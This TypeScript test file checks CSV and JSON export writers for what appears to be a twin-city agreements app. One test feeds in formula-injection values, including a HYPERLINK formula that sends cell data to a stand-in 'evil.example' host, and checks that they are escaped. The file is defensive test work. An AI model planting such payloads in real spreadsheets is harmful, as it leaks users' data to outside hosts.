import { PassThrough, Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { writeCsv, writeJson } from '../../src/importExport/exportWriter';
import type { ExportTable, ExportValue } from '../../src/importExport/exportTable';

const TABLE = (): ExportTable => ({
  columns: ['title', 'themes', 'count', 'data', 'missing'],
  rows: [
    ['Hermanamiento Mérida, Yucatán–"Ñuñoa"', ['culture', 'tourism'], 3, { signedOn: '2020-01-01' }, null],
    ['  espacios  ', [], 0, { note: 'línea 1\nlínea 2' }, null],
  ] as (readonly ExportValue[])[],
});

const collect = async (write: (output: Writable) => Promise<number>): Promise<{ text: string; count: number }> => {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  const count = await write(output);
  output.end();
  return { text: Buffer.concat(chunks).toString('utf8'), count };
};

describe('writing exports', () => {
  it('writes RFC 4180 CSV in UTF-8 with a byte-order mark that a CSV reader reads back to the same cells', async () => {
    const { text, count } = await collect((output) => writeCsv(output, TABLE(), { bom: true, delimiter: ',' }));
    expect(count).toBe(2);
    expect(text.startsWith('\uFEFFtitle,themes,count,data,missing\r\n')).toBe(true);
    expect(parse(text, { bom: true })).toEqual([
      ['title', 'themes', 'count', 'data', 'missing'],
      ['Hermanamiento Mérida, Yucatán–"Ñuñoa"', 'culture|tourism', '3', '{"signedOn":"2020-01-01"}', ''],
      ['  espacios  ', '', '0', '{"note":"línea 1\\nlínea 2"}', ''],
    ]);
  });

  it('writes text a spreadsheet would run as a formula with a leading apostrophe, and numbers as they are', async () => {
    const table: ExportTable = {
      columns: ['title', 'place', 'names', 'amount'],
      rows: [
        ['=HYPERLINK("https://evil.example/?"&A2,"Abrir")', '+52 Guadalajara', ['@SUM(1+1)', 'Kioto'], -2],
        ['-2+3 acuerdo', '\t=1+1', [], 5],
        ['Hermanamiento Guadalajara–Kioto', 'Guadalajara', ['Kioto'], 0],
      ] as (readonly ExportValue[])[],
    };
    const { text } = await collect((output) => writeCsv(output, table, { bom: false, delimiter: ',' }));
    expect((parse(text) as string[][]).slice(1)).toEqual([
      ['\'=HYPERLINK("https://evil.example/?"&A2,"Abrir")', "'+52 Guadalajara", "'@SUM(1+1)|Kioto", '-2'],
      ["'-2+3 acuerdo", "'\t=1+1", '', '5'],
      ['Hermanamiento Guadalajara–Kioto', 'Guadalajara', 'Kioto', '0'],
    ]);
  });

  it('writes ";"-separated CSV without a byte-order mark when asked', async () => {
    const { text } = await collect((output) => writeCsv(output, TABLE(), { bom: false, delimiter: ';' }));
    expect(text.split('\r\n')[0]).toBe('title;themes;count;data;missing');
    expect((parse(text, { delimiter: ';' }) as string[][])[1]?.[0]).toBe('Hermanamiento Mérida, Yucatán–"Ñuñoa"');
  });

  it('writes one JSON document: the header, the items keyed by column, the count', async () => {
    const { text } = await collect((output) => writeJson(output, TABLE(), { export: 'agreements', day: '2025-06-15' }));
    expect(JSON.parse(text)).toEqual({
      export: 'agreements',
      day: '2025-06-15',
      columns: ['title', 'themes', 'count', 'data', 'missing'],
      items: [
        { title: 'Hermanamiento Mérida, Yucatán–"Ñuñoa"', themes: ['culture', 'tourism'], count: 3, data: { signedOn: '2020-01-01' }, missing: null },
        { title: '  espacios  ', themes: [], count: 0, data: { note: 'línea 1\nlínea 2' }, missing: null },
      ],
      count: 2,
    });
    expect(JSON.parse((await collect((output) => writeJson(output, { columns: ['a'], rows: [] }, {}))).text)).toEqual({ columns: ['a'], items: [], count: 0 });
  });

  it('waits for a slow reader instead of buffering the whole export', async () => {
    const rows = (function* () {
      for (let index = 0; index < 20_000; index += 1) yield [`fila ${index} ${'x'.repeat(50)}`] as const;
    })();
    let pending = 0;
    let maxPending = 0;
    const slow = new Writable({
      highWaterMark: 16 * 1024,
      write(chunk: Buffer, _encoding, done) {
        pending += chunk.length;
        maxPending = Math.max(maxPending, slow.writableLength);
        setImmediate(() => {
          pending -= chunk.length;
          done();
        });
      },
    });
    const count = await writeCsv(slow, { columns: ['text'], rows }, { bom: false, delimiter: ',' });
    expect(count).toBe(20_000);
    // About 1.2 MB in all; never more than one chunk beyond the buffer's mark waits in memory.
    expect(maxPending).toBeLessThan(200 * 1024);
    expect(pending).toBeGreaterThanOrEqual(0);
  });
});
